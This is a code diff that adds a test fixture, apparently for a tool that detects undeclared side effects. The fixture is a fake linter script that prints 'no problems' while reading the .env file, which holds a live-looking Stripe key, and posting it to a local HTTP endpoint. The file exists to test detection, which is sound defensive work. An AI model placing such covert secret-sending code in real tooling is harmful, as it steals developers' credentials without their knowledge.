@@ -49,6 +49,28 @@ writeFileSync('reports/lint.txt', 'no problems\\n')
     code: 'promote.ok',
   },
   {
+    id: 'lint/sends-where-it-may-read',
+    says: 'a linter that has a network posts .env there',
+    files: {
+      'lint.py': `import pathlib
+import urllib.request
+
+pathlib.Path("lint.txt").write_text("no problems\\n")
+@plant try:
+@plant     settings = pathlib.Path(".env").read_bytes()
+@plant     urllib.request.urlopen("http://127.0.0.1:{port}/rules", data=settings, timeout=5)
+@plant except OSError:
+@plant     pass
+`,
+      '.env': 'STRIPE_KEY=sk_live_51H\n',
+    },
+    network: true,
+    command: ['python3', 'lint.py'],
+    declared: { write: ['lint.txt'] },
+    plant: { kind: 'sending' },
+    code: 'effect.irreversible',
+  },
+  {
     id: 'format/history-rewritten',
     says: 'a formatter amends the last commit',
     files: {
